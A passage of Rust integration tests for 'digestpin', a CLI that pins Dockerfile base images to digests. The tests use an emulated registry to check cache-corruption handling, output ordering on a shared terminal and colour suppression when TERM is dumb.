            .split('&')
            .find_map(|kv| kv.strip_prefix(key)?.strip_prefix('='))
            .map(|v| v.parse().unwrap())
    };
    let requests = emu.requests();
    assert!(!requests.is_empty());
    for r in &requests {
        let query = r.query.as_deref().unwrap_or("");
        if let (Some(start), Some(end)) = (param(query, "start"), param(query, "end")) {
            assert!(start <= end, "{r:?}");
        }
    }
}

#[test]
fn a_corrupt_cache_is_a_miss_not_an_error() {
    let emu = Emulator::start();
    let entries = nightly(&emu, "chainguard/go", "latest");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    digestpin(dir.path(), &emu)
        .args(["pin", "--check"])
        .assert()
        .code(1);
    let cache = dir.path().join(".digestpin-cache");
    for rel in relative_files(&cache) {
        std::fs::write(cache.join(rel), b"{ torn").unwrap();
    }
    digestpin(dir.path(), &emu).arg("pin").assert().success();
    assert!(
        String::from_utf8(read(&dir.path().join("Dockerfile")))
            .unwrap()
            .contains(&entries[7].digest)
    );
}

/// `digestpin ARGS` in `dir` through `sh`, stdout and stderr into one pipe (as on a terminal),
/// with the environment of `cli::digestpin`; or, with `pty`, on a pseudo-terminal (`script`).
fn shared_output(dir: &Path, emu: &Emulator, args: &str, pty: bool, term: &str) -> Option<String> {
    let bin = cli::bin();
    let line = format!("'{}' {args} 2>&1", bin.display());
    let mut cmd = if pty {
        let found = std::process::Command::new("script")
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success());
        if !found {
            skip::note("no `script` to run on a pseudo-terminal");
            return None;
        }
        let mut cmd = std::process::Command::new("script");
        cmd.args(["-qec", &line, "/dev/null"]);
        cmd
    } else {
        let mut cmd = std::process::Command::new("sh");
        cmd.args(["-c", &line]);
        cmd
    };
    let out = cli::isolate(&mut cmd, dir, &dir.join(".digestpin-cache"))
        .env("DIGESTPIN_ENDPOINTS", format!("cgr.dev={}", emu.url()))
        .env("TERM", term)
        .output()
        .expect("run");
    Some(String::from_utf8_lossy(&out.stdout).into_owned())
}

#[test]
fn the_diff_comes_before_the_summary_on_a_shared_terminal() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/go", "latest");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    let text = shared_output(dir.path(), &emu, "pin --diff --color never", false, "xterm").unwrap();
    let diff = text.find("--- a/Dockerfile").expect(&text);
    let summary = text.find("digestpin: 1 to pin").expect(&text);
    assert!(diff < summary, "diff first, then the summary:\n{text}");
}

#[test]
fn no_colour_when_term_is_dumb() {
    let emu = Emulator::start();
    nightly(&emu, "chainguard/go", "latest");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM cgr.dev/chainguard/go:latest\n",
    );
    let Some(coloured) = shared_output(dir.path(), &emu, "pin --diff", true, "xterm") else {
        return;
    };
    assert!(
        coloured.contains("+FROM") && coloured.contains("\x1b["),
        "{coloured:?}"
    );
    let dumb = shared_output(dir.path(), &emu, "pin --diff", true, "dumb").unwrap();
    assert!(dumb.contains("+FROM") && !dumb.contains('\x1b'), "{dumb:?}");
}
